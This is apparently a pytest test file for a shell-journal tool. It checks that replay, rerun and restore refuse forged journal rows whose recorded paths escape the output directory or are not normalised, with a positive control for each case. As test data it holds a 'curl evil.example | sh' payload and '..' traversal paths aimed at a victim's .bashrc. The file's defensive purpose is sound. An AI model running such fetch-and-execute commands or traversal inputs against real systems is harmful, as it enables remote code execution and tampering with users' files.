"""A journal is input from outside: a recorded path that leaves the output
directory is refused by replay, rerun and restore, as the unprivileged
test user, on a journal row forged through the store's own writer (as
anyone who can write a shared journal could).  Each attack has a positive
control: the same row with a legitimate path is written below OUTDIR."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from fixtures_shell import as_owner_of, journal_url
from test_run import run_as_user

from shournal.hashing import content_digest
from shournal.journal import Journal
from shournal.record import CommandRecord, FileEvent
from shournal.store.archive import MANIFEST_FORMAT, Archive, encode_manifest

pytestmark = [pytest.mark.root]

T0 = 1_700_000_000_000_000_000
PAYLOAD = b"curl evil.example | sh  # planted by a forged journal row\n"
PRECIOUS = b"# the victim's own .bashrc\n"


def _forge(home: Path, cwd: str, path: str, *, archived: bool = True) -> int:
    """A command with an apparatus manifest that read and wrote ``path``
    (its archived content PAYLOAD), in ``cwd``: stored as the user, as a
    recorder would."""
    digest = content_digest(PAYLOAD).hex()
    entry = [path, len(PAYLOAD), T0, 0o100644, None, digest, None]
    manifest = {
        "format": MANIFEST_FORMAT, "digest_algorithm": "xxh3-128", "argv": ["true"],
        "env": {"PATH": "/usr/bin:/bin"}, "umask": 0o022, "uid": 0, "gid": 0, "groups": [],
        "hostname": None, "kernel": "", "machine": "", "archive_outputs": False,
        "reads": [entry], "writes": [entry], "not_archived": {},
        "archived_bytes_added": 0, "content_bytes": 0,
    }
    rec = CommandRecord(
        text="true", return_value=0, start_ns=T0, end_ns=T0 + 10**9, working_dir=cwd,
        username="u", hostname="box", session_uuid=None, hash_chunk_size=None,
        hash_max_reads=None, apparatus=encode_manifest(manifest),
        reads=[FileEvent(os.fsencode(path), len(PAYLOAD), T0, 0o100644, None,
                         PAYLOAD if archived else None)],
    )
    with as_owner_of(home):
        Archive(home / ".local" / "share" / "shournal" / "archive").put(PAYLOAD, digest)
        with Journal.open(journal_url(home), create=True) as store:
            return store.add(rec)


@pytest.fixture
def victim(user_home: Path) -> Path:
    """A file of the user's outside every output directory."""
    bashrc = user_home / "victim" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_bytes(PRECIOUS)
    os.chown(bashrc.parent, *_ids(user_home))
    os.chown(bashrc, *_ids(user_home))
    return bashrc


def _ids(home: Path) -> tuple[int, int]:
    st = (home / "work").stat()
    return st.st_uid, st.st_gid


def _escaping(target: Path) -> str:
    """``target`` named with enough ``..`` to climb from any OUTDIR."""
    return "/" + "../" * 12 + str(target).lstrip("/")


def _tree_digest(root: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(root.rglob("*")):
        h.update(str(p).encode())
        if p.is_file() and not p.is_symlink():
            h.update(p.read_bytes())
    return h.hexdigest()


@pytest.mark.parametrize("verb", ["replay", "rerun"])
def test_a_recorded_path_with_dotdot_is_refused_and_the_victim_kept(
    install, user_home, victim, verb
) -> None:
    work = user_home / "work"
    bad = _escaping(victim)
    cid = _forge(user_home, str(work), bad)
    outdir = user_home / "out"
    res = run_as_user(install, user_home, verb, str(cid), "-o", str(outdir))
    assert victim.read_bytes() == PRECIOUS, res.stdout + res.stderr  # main overwrote it
    assert res.returncode == 2, res.stdout + res.stderr
    assert res.stderr.count("\n") == 1 and res.stderr.startswith("shournal: "), res.stderr
    assert f"command {cid}" in res.stderr and bad in res.stderr and "'..'" in res.stderr
    assert "Traceback" not in res.stderr
    assert not outdir.exists()  # nothing made on disk

    # Positive control: the same row naming a file of the working
    # directory is restored below OUTDIR (and only there).
    legit = work / ".bashrc"
    good = _forge(user_home, str(work), str(legit))
    res = run_as_user(install, user_home, verb, str(good), "-o", str(outdir))
    assert res.returncode in (0, 1), res.stdout + res.stderr
    assert (outdir / str(legit).lstrip("/")).read_bytes() == PAYLOAD
    assert not legit.exists() and victim.read_bytes() == PRECIOUS


def test_a_forged_working_directory_makes_no_directory_outside_outdir(
    install, user_home, victim
) -> None:
    made = user_home / "made-by-replay"
    cid = _forge(user_home, _escaping(made), str(user_home / "work" / "x"))
    before = _tree_digest(user_home)
    res = run_as_user(install, user_home, "replay", str(cid), "-o", str(user_home / "out"))
    assert res.returncode == 2 and res.stderr.count("\n") == 1, res.stderr
    assert f"command {cid}" in res.stderr and "made-by-replay" in res.stderr
    assert not made.exists() and _tree_digest(user_home) == before
    # Positive control: a real working directory that no longer exists is
    # made, below OUTDIR.
    gone = user_home / "work" / "gone"
    good = _forge(user_home, str(gone), str(gone / "x"))
    res = run_as_user(install, user_home, "replay", str(good), "-o", str(user_home / "out"))
    assert res.returncode in (0, 1), res.stdout + res.stderr
    assert (user_home / "out" / str(gone).lstrip("/")).is_dir() and not gone.exists()


@pytest.mark.parametrize("bad", ["relative/x", "/a//b", "/a/./b", "/a/b/.."])
def test_every_unnormalised_recorded_path_is_refused(install, user_home, bad) -> None:
    cid = _forge(user_home, str(user_home / "work"), bad)
    res = run_as_user(install, user_home, "replay", str(cid), "-o", str(user_home / "out"))
    assert res.returncode == 2 and res.stderr.count("\n") == 1, res.stderr
    assert repr(bad) in res.stderr
    assert not (user_home / "out").exists()


def test_restore_refuses_a_recorded_path_that_is_not_normalised(install, user_home) -> None:
    """`restore --file-id` names the file after the recorded path: a row
    whose path is not normalised is refused as replay refuses it, nothing
    written; a legitimate one is restored."""
    from shournal.journal import Journal

    work = user_home / "work"
    cid = _forge(user_home, str(work), "/tmp/../srv/.bashrc")
    good_cid = _forge(user_home, str(work), "/srv/scripts/.bashrc")
    with as_owner_of(user_home), Journal.open(journal_url(user_home), create=True) as store:
        bad_id = store.find(command_id=cid)[0].reads[0].id
        good_id = store.find(command_id=good_cid)[0].reads[0].id
    res = run_as_user(install, user_home, "restore", "--file-id", str(bad_id))
    assert res.returncode == 2 and res.stderr.count("\n") == 1, res.stderr
    assert f"file {bad_id}" in res.stderr and "'..'" in res.stderr
    assert list(work.iterdir()) == []
    res = run_as_user(install, user_home, "restore", "--file-id", str(good_id))
    assert res.returncode == 0, res.stderr
    assert (work / ".bashrc").read_bytes() == PAYLOAD
